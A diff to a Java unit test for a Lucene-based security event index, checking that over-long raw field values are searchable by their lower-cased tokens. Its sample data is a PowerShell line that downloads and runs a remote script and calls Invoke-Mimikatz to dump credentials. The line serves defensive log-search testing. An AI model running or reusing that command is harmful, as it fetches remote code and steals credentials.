@@ -16,6 +16,7 @@ import org.apache.lucene.store.ByteBuffersDirectory;
 import org.apache.lucene.store.Directory;
 import org.apache.lucene.util.BytesRef;
 import org.huntindex.normalize.Event;
+import org.huntindex.schema.CommandLineTokenizer;
 import org.huntindex.schema.Field;
 import org.huntindex.schema.SchemaAnalyzer;
 import org.junit.jupiter.api.Test;
@@ -43,12 +44,39 @@ class RawFieldsTest {
         assertEquals(1, count(s, "Note=a=b=c"));
         assertEquals(1, count(s, "Ort=Zürich ж"));
         assertEquals(1, count(s, "Empty="));
-        assertEquals(0, count(s, "Blob=" + LONG), "a pair over the term limit is stored only");
+        assertEquals(0, count(s, "Blob=" + LONG), "a pair over the term limit is no term");
+        assertEquals(1, count(s, "Blob=" + "x".repeat(CommandLineTokenizer.MAX_TOKEN)), "but its tokens are");
         BytesRef blob = r.storedFields().document(0).getBinaryValue(Field.RAW.fieldName());
         List<Map.Entry<String, String>> pairs = RawFields.decode(blob);
         assertEquals(List.of(Map.entry("TargetUserName", "admin"), Map.entry("Note", "a=b=c"),
             Map.entry("Ort", "Zürich ж"), Map.entry("Blob", LONG), Map.entry("TargetUserName", "second"),
             Map.entry("Empty", "")), pairs);
+      }
+    }
+  }
+
+  @Test
+  void aPairTooLongToBeATermIsIndexedByTheTokensOfItsValueUnderItsName() throws IOException {
+    String script = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1'); Invoke-Mimikatz "
+        + "-DumpCreds # Zürich ".repeat(60);
+    try (Directory dir = new ByteBuffersDirectory()) {
+      try (IndexWriter w = new IndexWriter(dir, new IndexWriterConfig(new SchemaAnalyzer()))) {
+        w.addDocument(EventDocuments.of(new Event().raw("ScriptBlockText", script).raw("Short", "A B")));
+        w.addDocument(EventDocuments.of(new Event().raw("Other", script)));
+      }
+      try (DirectoryReader r = DirectoryReader.open(dir)) {
+        IndexSearcher s = new IndexSearcher(r);
+        for (String token : List.of("iex", "new-object", "net.webclient", ".downloadstring", "http", "10.0.0.5",
+            "a.ps1", "invoke-mimikatz", "-dumpcreds", "#", "zürich")) {
+          assertEquals(1, count(s, "ScriptBlockText=" + token), token);
+          assertEquals(1, count(s, "Other=" + token), token);
+        }
+        assertEquals(0, count(s, "ScriptBlockText=Invoke-Mimikatz"), "tokens are lower-cased");
+        assertEquals(0, count(s, "ScriptBlockText=" + script));
+        assertEquals(1, count(s, "Short=A B"), "a short pair stays whole");
+        assertEquals(0, count(s, "Short=a"));
+        assertEquals(List.of(Map.entry("ScriptBlockText", script), Map.entry("Short", "A B")),
+            RawFields.decode(r.storedFields().document(0).getBinaryValue(Field.RAW.fieldName())));
       }
     }
   }
